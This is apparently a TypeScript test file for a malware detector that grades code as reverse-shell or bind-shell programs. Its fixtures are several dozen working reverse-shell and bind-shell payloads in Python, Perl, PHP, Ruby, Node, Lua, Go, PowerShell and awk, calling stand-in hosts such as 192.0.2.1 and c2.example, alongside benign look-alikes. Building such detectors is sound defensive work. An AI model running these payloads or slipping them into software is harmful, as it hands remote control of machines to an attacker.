import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SourceLanguage } from './recognition.ts';
import { recognizeProgram } from './recognize-program.ts';

const REVERSE = 'malware/reverse-shell-program';
const BIND = 'malware/bind-shell-program';

function shells(text: string, language?: SourceLanguage): string[] {
  return recognizeProgram(text, language)
    .filter(({ family }) => family === 'remote-shell')
    .map(({ rule, weight }) => `${weight} ${rule}`);
}

const literal: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'dup2 and call',
    'python',
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
  ],
  [
    'dup2 in a loop and pty',
    'python',
    `import socket as a, os as b, pty\nc=a.socket()\nc.connect(('c2.example', 9001))\n[b.dup2(c.fileno(),f)for f in(0,1,2)]\npty.spawn("bash")\n`,
  ],
  [
    'named address',
    'python',
    `HOST = "198.51.100.7"\nPORT = 4444\nimport socket, subprocess\nclient = socket.socket()\nclient.connect((HOST, PORT))\nwhile True:\n    command = client.recv(1024).decode()\n    out = subprocess.run(command, shell=True, capture_output=True)\n    client.send(out.stdout)\n`,
  ],
  [
    'named pair',
    'python',
    `from socket import *\ntarget = ("198.51.100.7", 4444)\ns = socket()\ns.connect(target)\nimport os\nfor fd in range(3):\n  os.dup2(s.fileno(), fd)\nos.execl("/bin/bash", "bash", "-i")\n`,
  ],
  [
    'pieces of strings',
    'python',
    `s=__import__('so'+'cket').socket();s.connect(("192.0."+"2.1",4444));o=__import__("os");o.dup2(s.fileno(),0);o.dup2(s.fileno(),1);o.system("/bin/"+"sh -i")`,
  ],
  [
    'stdin of a process',
    'python',
    `import socket,subprocess\ns=socket.create_connection(("192.0.2.1",443))\nsubprocess.Popen(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s)`,
  ],
  [
    'Socket and exec',
    'perl',
    'use Socket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
  ],
  [
    'IO::Socket',
    'perl',
    '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
  ],
  [
    'IO::Socket with options',
    'perl',
    `use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new(PeerAddr => 'c2.example', PeerPort => 4444, Proto => 'tcp');\nwhile (my $line = <$sock>) { my $out = \`$line 2>&1\`; print $sock $out; }`,
  ],
  ['fsockopen', 'php', '$sock=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
  [
    'fsockopen and proc_open',
    'php',
    '<?php $sock=fsockopen("192.0.2.1",4444);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);',
  ],
  [
    'long form',
    'php',
    `<?php\n$ip = '192.0.2.1';\n$port = 1234;\n$shell = 'uname -a; w; id; /bin/sh -i';\n$sock = fsockopen($ip, $port, $errno, $errstr, 30);\n$spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"));\n$process = proc_open($shell, $spec, $pipes);\nwhile (1) { $input = fread($sock, 1400); fwrite($pipes[0], $input); }`,
  ],
  [
    'stream and loop',
    'php',
    `<?php $s = stream_socket_client('tcp://192.0.2.1:4444'); while(!feof($s)){ $c = fgets($s); $o = shell_exec($c); fwrite($s, $o); }`,
  ],
  [
    'TCPSocket and sprintf',
    'ruby',
    `require 'socket';f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`,
  ],
  [
    'TCPSocket and popen',
    'ruby',
    `require 'socket';c=TCPSocket.new("192.0.2.1","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`,
  ],
  [
    'spawn with in and out',
    'ruby',
    `require "socket"\ns = TCPSocket.new('c2.example', 4444)\nspawn("/bin/sh", [:in, :out, :err] => s)\n`,
  ],
  [
    'spawn and pipes',
    'node',
    `(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"192.0.2.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();`,
  ],
  [
    'stdio',
    'node',
    `const c = require('node:net').connect({ host: '192.0.2.1', port: 4444 }, () => require('node:child_process').spawn('bash', ['-i'], { stdio: [c, c, c] }));`,
  ],
  [
    'exec of data',
    'node',
    `const net = require('net'); const { exec } = require('child_process');\nconst s = net.createConnection(4444, 'c2.example');\ns.on('data', (d) => { exec(d.toString(), (e, out) => s.write(out)); });`,
  ],
  [
    'os.execute',
    'lua',
    `require('socket');require('os');t=socket.tcp();t:connect('192.0.2.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');`,
  ],
  [
    'popen of what comes',
    'lua',
    `local host, port = "192.0.2.1", 4444 local socket = require("socket") local tcp = socket.tcp() local io = require("io") tcp:connect(host, port); while true do local cmd, status, partial = tcp:receive() local f = io.popen(cmd, 'r') local s = f:read("*a") f:close() tcp:send(s) if status == "closed" then break end end tcp:close()`,
  ],
  [
    'streams',
    'java',
    `String host="192.0.2.1";int port=4444;String cmd="/bin/sh";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);InputStream pi=p.getInputStream(),pe=p.getErrorStream(),si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutputStream();`,
  ],
  [
    'dial',
    'go',
    `package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","192.0.2.1:4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}`,
  ],
  [
    'TCPClient',
    'powershell',
    `$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}`,
  ],
  [
    'inet',
    'awk',
    `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
  ],
];

for (const [name, language, text] of literal) {
  test(`${language}: ${name}: a shell to a written address is certain`, () => {
    assert.deepEqual(shells(text, language), [`certain ${REVERSE}`]);
  });
}

const given: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'arguments',
    'python',
    'import socket,os,pty,sys;s=socket.socket();s.connect((sys.argv[1],int(sys.argv[2])));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")',
  ],
  [
    'environment',
    'python',
    'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")',
  ],
  ['arguments', 'php', '<?php $s=fsockopen($argv[1],$argv[2]);shell_exec("/bin/bash -i <&3 >&3 2>&3");'],
  [
    'environment',
    'node',
    'const n=require("net"),c=n.connect(process.env.P,process.env.H,()=>{const s=require("child_process").spawn("/bin/sh");c.pipe(s.stdin);s.stdout.pipe(c)})',
  ],
];
for (const [name, language, text] of given) {
  test(`${language}: ${name}: a shell to an address that it is given is strong`, () => {
    assert.deepEqual(shells(text, language), [`strong ${REVERSE}`]);
  });
}

const binds: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'dup2',
    'python',
    `import socket,os,pty\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,_=s.accept()\nfor f in range(3): os.dup2(c.fileno(),f)\npty.spawn("/bin/bash")\n`,
  ],
  [
    'createServer',
    'node',
    `require('net').createServer((s) => { const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);`,
  ],
  [
    'listen',
    'perl',
    `use Socket;$p=4444;socket(S,PF_INET,SOCK_STREAM,0);bind(S,sockaddr_in($p, INADDR_ANY));listen(S,3);for(;accept(C,S);close C){open(STDIN,"<&C");open(STDOUT,">&C");exec("/bin/bash -i");};`,
  ],
  [
    'TCPServer',
    'ruby',
    `require 'socket';f=TCPServer.new(4444);s=f.accept;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",s,s,s)`,
  ],
  [
    'net.Listen',
    'go',
    `l, _ := net.Listen("tcp", ":4444")\nc, _ := l.Accept()\ncmd := exec.Command("/bin/sh", "-i")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()`,
  ],
];
for (const [name, language, text] of binds) {
  test(`${language}: ${name}: a shell for whoever connects`, () => {
    assert.deepEqual(shells(text, language), [`strong ${BIND}`]);
  });
}

const honest: readonly (readonly [string, SourceLanguage, string])[] = [
  [
    'waits for a port',
    'python',
    `import socket\ns = socket.socket()\ns.connect(("192.0.2.1", 5432))\ns.close()\nimport os\nos.execvp("/bin/sh", ["sh", "-c", "start"])`,
  ],
  [
    'a terminal',
    'python',
    `import pty, os\npid, fd = pty.fork()\nif pid == 0:\n    os.execv("/bin/bash", ["bash"])\npty.spawn("/bin/bash")`,
  ],
  [
    'redirects to a log',
    'python',
    `fd = os.open("/var/log/app.log", os.O_WRONLY)\nos.dup2(fd, 1)\nos.dup2(fd, 2)\nos.execvp("sh", ["sh", "-c", cmd])\nstatsd.connect(("192.0.2.1", 8125))\n`.replace(
      'statsd.connect',
      'statsd.link',
    ),
  ],
  [
    'database client',
    'node',
    `const net = require('net'); const cp = require('child_process'); const s = net.connect(5432, 'db.example'); s.on('data', (d) => parse(d)); cp.execSync('ls');`,
  ],
  [
    'a comment',
    'python',
    `# s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\nprint("hello")\n`,
  ],
  [
    'proxy',
    'go',
    `c, err := net.Dial("tcp", "192.0.2.1:80")\ngo io.Copy(c, client)\nout, _ := exec.Command("uname", "-a").Output()`,
  ],
];
for (const [name, language, text] of honest) {
  test(`${language}: ${name} is no shell`, () => assert.deepEqual(shells(text, language), []));
}

test('addresses that go nowhere count little', () => {
  const to = (host: string): string[] =>
    shells(
      `import socket,os,pty;s=socket.socket();s.connect(("${host}",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`,
      'python',
    );
  assert.deepEqual(to('127.0.0.1'), [`weak ${REVERSE}`]);
  assert.deepEqual(to('LHOST'), [`weak ${REVERSE}`]);
  assert.deepEqual(to('10.0.0.1'), [`strong ${REVERSE}`]);
});
